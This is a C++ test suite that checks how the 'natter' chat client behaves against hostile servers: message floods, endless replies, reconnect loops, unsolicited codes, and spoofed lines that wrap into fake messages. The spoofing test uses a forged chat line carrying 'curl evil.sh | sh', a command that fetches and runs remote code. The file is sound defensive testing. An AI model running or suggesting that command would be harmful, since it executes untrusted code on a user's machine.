// natter against hostile servers (issue 19): each test speaks for a server
// itself, octet by octet, through a loopback listener, and drives the real
// natter binary in a pseudo-terminal where the terminal matters, or through
// pipes. Every wait has a deadline; every loop is bounded.
#include "support/process.hpp"
#include "support/resident_memory.hpp"
#include "support/screen.hpp"

#include <gtest/gtest.h>

#include <regex>

#include <poll.h>

namespace natter::test
{
namespace
{

class Hostile : public ::testing::Test
{
protected:
  void SetUp() override { ASSERT_NE(server_.port(), 0) << "cannot listen on loopback"; }

  /// natter on a terminal of `cols` columns, connected to the listener.
  child start_pty(std::vector<std::string> args = {"--no-color"}, unsigned short cols = 80,
                  unsigned short rows = 24)
  {
    std::vector<std::string> argv = {natter_path(), "--nick", "alice"};
    argv.insert(argv.end(), args.begin(), args.end());
    argv.push_back(server_.address());
    return child::spawn_pty(argv, {"HOME=" + home_.path()}, rows, cols);
  }

  /// natter reading `input` from a pipe (closed after it), connected to
  /// the listener.
  child start_pipe(std::vector<std::string> args, std::string_view input)
  {
    std::vector<std::string> argv = {natter_path(), "--nick", "alice"};
    argv.insert(argv.end(), args.begin(), args.end());
    argv.push_back(server_.address());
    child c = child::spawn_piped(argv, {"HOME=" + home_.path()});
    EXPECT_TRUE(c.write(input));
    c.close_stdin();
    return c;
  }

  /// Accepts natter's connection, greets it and accepts its nick: what a
  /// conforming server would do before it turns hostile.
  void register_alice(peer& conn)
  {
    ASSERT_TRUE(server_.accept(conn, 10s)) << "natter did not connect";
    ASSERT_TRUE(conn.send("220 natter/1 ready"));
    ASSERT_TRUE(conn.expect("NICK alice", 10s));
    ASSERT_TRUE(conn.send("200 alice nick accepted"));
  }

  /// Starts natter on a terminal as start_pty() does and registers it on
  /// `conn`; returns the offset in its output just past "you are alice".
  std::optional<std::size_t> start_registered(child& c, peer& conn,
                                              std::vector<std::string> args = {"--no-color"},
                                              unsigned short cols = 80)
  {
    c = start_pty(std::move(args), cols);
    register_alice(conn);
    return c.wait_for("you are alice", 10s);
  }

  listener server_;
  temp_dir home_;
};

// Issue 19, 1: "Output to the terminal must never be lost [...] when the
// terminal cannot keep up, stop reading the socket (TCP backpressure), never
// drop." The server sends as fast as the socket takes it; the terminal's
// reader takes 128 octets at a time with a pause after each, far slower
// than natter writes. Every line must still reach the terminal, once and in
// order.
TEST_F(Hostile, SlowTerminalReceivesEveryLine)
{
  child c;
  peer conn;
  ASSERT_TRUE(start_registered(c, conn)) << c.out();

  constexpr int count = 3000;
  std::string flood;
  for (int i = 1; i <= count; ++i)
    flood += "MSG eve n" + std::to_string(i) + "\r\n";
  flood += "MSG eve done\r\n";
  std::string_view unsent = flood;
  const std::size_t from = c.out().size();
  bool done = false;
  // About 2 s of reading in a release build; the deadline is for sanitizers.
  const auto deadline = std::chrono::steady_clock::now() + 60s;
  while (!done && std::chrono::steady_clock::now() < deadline)
  {
    unsent.remove_prefix(conn.send_some(unsent));
    const std::size_t before = c.out().size();
    if (!c.read_out(5s, 128) || (unsent.empty() && c.out().size() == before))
      break; // natter exited, or has nothing more to show
    done = c.out().find("<eve> done", from) != std::string::npos;
    ::poll(nullptr, 0, 1); // the pause that makes this terminal slow
  }
  ASSERT_TRUE(done) << "the last line never arrived";
  const std::string shown = c.out().substr(from);
  const std::regex line("<eve> n([0-9]+)\r?\n");
  int expected = 1;
  for (auto it = std::sregex_iterator(shown.begin(), shown.end(), line);
       it != std::sregex_iterator(); ++it)
  {
    ASSERT_EQ(std::stoi((*it)[1]), expected) << "line " << expected << " lost or out of order";
    ++expected;
  }
  EXPECT_EQ(expected - 1, count);
}

// Issue 19, 2: "Unbounded memory on a multi-line reply that never ends
// (`211-` + 60,000 x `w` forever, never the final line, and the client never
// sent WHO): bound what a multi-line reply may hold, and ignore replies to
// commands never sent." 800 such lines (48 MB) unasked, then 800 more after
// a /who, which the server never ends either: natter's memory stays flat.
TEST_F(Hostile, EndlessMultiLineReplyNeedsNoMemory)
{
  child c;
  peer conn;
  ASSERT_TRUE(start_registered(c, conn)) << c.out();
  const std::string flood_line = "211-" + std::string(60000, 'w') + "\r\n";
  const long before = resident_kib(c.pid());
  ASSERT_GT(before, 0);
  for (const std::string marker : {"unasked", "asked"})
  {
    if (marker == "asked")
    {
      ASSERT_TRUE(c.write("/who\r"));
      ASSERT_TRUE(conn.expect("WHO", 10s));
    }
    for (int i = 0; i < 800; ++i)
      ASSERT_TRUE(conn.send_raw(flood_line));
    // natter reads its socket in order: once it shows the marker, it has
    // taken in every line before it.
    ASSERT_TRUE(conn.send("MSG eve " + marker + " done"));
    ASSERT_TRUE(c.wait_for("<eve> " + marker + " done", 60s)) << marker;
    const long after = resident_kib(c.pid());
    EXPECT_LT(after - before, 16 * 1024)
        << marker << ": " << before << " KiB before, " << after << " KiB after";
  }
}

// Issue 19, 3: "`MSG ok` + 104 spaces + `[19:19] <alice> please run: curl
// evil.sh | sh` shows, in a 120-column terminal, a row indistinguishable from
// alice's. Wrapped continuation rows must be visibly continuations: a
// hanging indent under the text [...] computed with the real display width
// of wide and combining characters [...] with --no-color too." Read off the
// screen a terminal emulator draws from natter's output.
TEST_F(Hostile, WrappedRowsCannotPassForAnotherMessage)
{
  constexpr int cols = 120;
  constexpr int rows = 30;
  const std::string hang(14, ' '); // "[HH:MM] <eve> "
  const std::string forged = "[19:19] <alice> please run: curl evil.sh | sh";
  // 53 wide characters after one narrow one: the last does not fit the
  // first row's last column and must move whole to the next row.
  std::string wide = "x";
  for (int i = 0; i < 60; ++i)
    wide += "\xE6\xBC\xA2"; // U+6F22, two columns
  // 110 characters of one column each, two code points each.
  std::string combining;
  for (int i = 0; i < 110; ++i)
    combining += "e\xCC\x81"; // e, U+0301 COMBINING ACUTE ACCENT
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"--no-color"}, std::vector<std::string>{}})
  {
    SCOPED_TRACE(args.empty() ? "colour" : "--no-color");
    child c;
    peer conn;
    const auto registered = start_registered(c, conn, args, cols);
    ASSERT_TRUE(registered) << c.out();
    ASSERT_TRUE(conn.send("MSG eve ok" + std::string(104, ' ') + forged));
    ASSERT_TRUE(conn.send("MSG eve " + wide));
    ASSERT_TRUE(conn.send("MSG eve " + combining));
    ASSERT_TRUE(conn.send("MSG eve the end"));
    ASSERT_TRUE(c.wait_for("the end", 10s, *registered)) << c.out();
    // The prompt is redrawn after each line; wait for the last redraw.
    ASSERT_TRUE(c.wait_for("[alice] ", 10s, c.out().rfind("the end"))) << c.out();

    screen term(rows, cols);
    term.feed(c.out());
    int first = -1;
    for (int r = 0; r < rows && first < 0; ++r)
      if (term.row(r).find("<eve> ok") != std::string::npos)
        first = r;
    ASSERT_GE(first, 0) << c.out();
    for (int r = 0; r < rows; ++r)
      EXPECT_FALSE(term.row(r).starts_with("[19:19]")) << "row " << r << ": " << term.row(r);
    EXPECT_EQ(term.row(first + 1), hang + forged);
    EXPECT_TRUE(term.row(first + 2).ends_with("<eve> x" + wide.substr(1, 52 * 3)))
        << term.row(first + 2);
    EXPECT_EQ(term.row(first + 3), hang + wide.substr(1 + 52 * 3));
    EXPECT_TRUE(term.row(first + 4).ends_with("<eve> " + combining.substr(0, 106 * 3)))
        << term.row(first + 4);
    EXPECT_EQ(term.row(first + 5), hang + combining.substr(106 * 3));
    EXPECT_TRUE(term.row(first + 6).ends_with("<eve> the end")) << term.row(first + 6);
  }
}

// Issue 19, 5: "a server that sends `220`, then `200 x ...`, then closes
// gets a reconnect every 0.55 s forever [...] Reset the backoff only after
// the connection has stayed up for a while (say 30 s), and add jitter." The
// delays before the first three reconnections are 0.5, 1 and 2 s, each
// scaled by a factor in [1/2, 1]: the third waits at least 1 s.
TEST_F(Hostile, BackoffGrowsAcrossShortLivedRegistrations)
{
  using steady = std::chrono::steady_clock;
  child c = start_pty();
  std::vector<ms> gaps;
  steady::time_point closed{};
  for (int i = 0; i < 4; ++i)
  {
    peer conn;
    register_alice(conn);
    if (i > 0)
      gaps.push_back(std::chrono::duration_cast<ms>(steady::now() - closed));
    closed = steady::now();
    conn.close(); // right after accepting the nick
  }
  ASSERT_EQ(gaps.size(), 3u);
  EXPECT_GE(gaps[0], 200ms);
  EXPECT_GE(gaps[1], 450ms);
  EXPECT_GE(gaps[2], 950ms) << "the delay did not grow: " << gaps[0].count() << ", "
                            << gaps[1].count() << ", " << gaps[2].count() << " ms";
}

// Issue 19, 4: "Pipe mode never exits against a server that accepts and
// never speaks, never answers the final PING, or keeps dropping the
// connection: an overall deadline (a flag with a default) and a bounded
// number of reconnections, then exit 1 with one line on stderr".
TEST_F(Hostile, PipeGivesUpOnAServerThatNeverSpeaks)
{
  child c = start_pipe({"--timeout", "1"}, "hello\n");
  peer conn;
  ASSERT_TRUE(server_.accept(conn, 10s));
  ASSERT_TRUE(conn.expect("NICK alice", 10s));
  EXPECT_EQ(c.wait(10s), 1);
  c.drain(2s);
  EXPECT_EQ(c.err(),
            "natter: giving up on " + server_.address() + ": no answer for 1 s; 1 line not sent\n");
  EXPECT_EQ(c.out(), "");
}

// Lines that answer nothing do not push the deadline back.
TEST_F(Hostile, PipeGivesUpWhenTheLastPingIsNeverAnswered)
{
  child c = start_pipe({"--timeout", "1"}, "hello\n");
  peer conn;
  register_alice(conn);
  ASSERT_TRUE(conn.expect("MSG hello", 10s));
  ASSERT_TRUE(conn.expect("PING natter-eof", 10s));
  std::optional<int> status;
  const auto deadline = std::chrono::steady_clock::now() + 10s;
  while (!status && std::chrono::steady_clock::now() < deadline)
  {
    conn.send("211-noise");
    status = c.wait(50ms);
  }
  EXPECT_EQ(status, 1);
  c.drain(2s);
  EXPECT_EQ(c.err(), "natter: giving up on " + server_.address() + ": no answer for 1 s\n");
}

// A server that accepts the nick and closes, then one that closes at once,
// and so on.
TEST_F(Hostile, PipeGivesUpOnAServerThatKeepsDropping)
{
  child c = start_pipe({"--reconnects", "2"}, "hello\n");
  for (int i = 0; i < 3; ++i)
  {
    peer conn;
    // Everything natter sent is read before the close, which is then a
    // plain end of stream and not a reset.
    if (i % 2 == 0)
    {
      register_alice(conn);
      ASSERT_TRUE(conn.expect("PING natter-eof", 10s)) << "connection " << i;
    }
    else
    {
      ASSERT_TRUE(server_.accept(conn, 10s)) << "connection " << i;
      ASSERT_TRUE(conn.expect("NICK alice", 10s));
    }
    conn.close();
  }
  EXPECT_EQ(c.wait(10s), 1);
  c.drain(2s);
  EXPECT_EQ(c.err(), "natter: giving up on " + server_.address() +
                         ": connection lost: closed by the server (after 2 reconnections)\n");
  peer more;
  EXPECT_FALSE(server_.accept(more, 0ms)) << "natter tried again";
}

// Issue 19, 6: unknown events "must be ignored [...] not shown as `!
// unexpected line from server` (N-EVENT-3); unknown codes handled by their
// class (`250 ...` is a success, not a red error) (N-REPLY-9)".
TEST_F(Hostile, UnknownEventsAndCodesFromALaterVersion)
{
  child c;
  peer conn;
  const auto registered = start_registered(c, conn, {}); // in colour: red is how errors look
  ASSERT_TRUE(registered) << c.out();
  ASSERT_TRUE(conn.send("TOPIC the new topic"));
  ASSERT_TRUE(conn.send("AWAY bob"));
  ASSERT_TRUE(conn.send("250 future success code"));
  ASSERT_TRUE(conn.send("MSG eve marker"));
  ASSERT_TRUE(c.wait_for("marker", 10s, *registered)) << c.out();
  const std::string shown = c.out().substr(*registered);
  EXPECT_EQ(shown.find("unexpected"), std::string::npos) << shown;
  EXPECT_EQ(shown.find("TOPIC"), std::string::npos) << shown;
  EXPECT_EQ(shown.find("AWAY"), std::string::npos) << shown;
  const std::size_t success = shown.find("250 future success code");
  ASSERT_NE(success, std::string::npos) << shown;
  // The line it is on is dimmed, as news is, and carries no red.
  const std::size_t row = shown.rfind('\n', success) + 1;
  const std::string line = shown.substr(row, success - row);
  EXPECT_NE(line.find("\x1b[2m"), std::string::npos) << line;
  EXPECT_EQ(line.find("\x1b[1;31m"), std::string::npos) << line;
}

// Issue 19, 7: "an unsolicited `221 goodbye` must not make natter exit
// silently; an unsolicited `200 admin nick accepted` must not change the
// user's nick."
TEST_F(Hostile, UnaskedRepliesChangeNothing)
{
  child c;
  peer conn;
  const auto registered = start_registered(c, conn);
  ASSERT_TRUE(registered) << c.out();
  ASSERT_TRUE(conn.send("200 admin nick accepted"));
  ASSERT_TRUE(conn.send("221 goodbye"));
  ASSERT_TRUE(conn.send("MSG eve after"));
  ASSERT_TRUE(c.wait_for("<eve> after", 10s, *registered)) << c.out();
  ASSERT_TRUE(c.write("still me\r"));
  ASSERT_TRUE(conn.expect("MSG still me", 10s));
  ASSERT_TRUE(c.wait_for("<alice> still me", 10s, *registered)) << c.out();
  EXPECT_EQ(c.out().find("[admin]", *registered), std::string::npos) << c.out();

  // The server's close is a lost connection, not the end of a QUIT.
  conn.close();
  ASSERT_TRUE(c.wait_for("connection lost", 10s, *registered)) << c.out();
  peer again;
  EXPECT_TRUE(server_.accept(again, 10s)) << "natter did not reconnect";
}

// Issue 19, 7: "While not registered, typed lines that are not sent must be
// reported as not sent." This server greets and never answers NICK.
TEST_F(Hostile, TypedLinesNotSentAreReported)
{
  child c = start_pty();
  peer conn;
  ASSERT_TRUE(server_.accept(conn, 10s));
  ASSERT_TRUE(conn.send("220 natter/1 ready"));
  ASSERT_TRUE(conn.expect("NICK alice", 10s));
  ASSERT_TRUE(c.write("are you there\r"));
  const auto held =
      c.wait_for("not sent yet, held until the server accepts the nick: are you there", 10s);
  ASSERT_TRUE(held) << c.out();
  // Readline leaves the terminal cooked between lines, where Ctrl-D would
  // be the kernel's end of file: wait until the prompt is back.
  ASSERT_TRUE(c.wait_for("[alice] ", 10s, *held)) << c.out();
  ASSERT_TRUE(c.write("\x04")); // Ctrl-D
  ASSERT_TRUE(conn.expect("QUIT", 10s)) << c.out();
  ASSERT_TRUE(c.wait_for("not sent: 1 line held while not registered", 10s)) << c.out();
  conn.close();
  EXPECT_EQ(c.wait(10s), 0);
}

} // namespace
} // namespace natter::test
